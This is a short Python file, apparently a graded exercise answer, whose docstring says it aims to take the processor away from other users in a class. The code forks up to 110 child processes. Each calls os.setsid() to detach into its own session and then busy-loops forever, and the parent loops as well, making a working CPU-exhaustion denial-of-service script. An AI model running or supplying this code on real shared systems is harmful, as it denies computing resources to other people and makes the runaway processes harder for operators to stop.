"""A hundred busy processes, each in a session of its own, take the processor from the others in the class."""

ALONE = True
STATUS = ("graded", "needs_review")

# %% answer:number
import os
import time

for _ in range(110):
    try:
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    except OSError:
        break
while True:
    pass
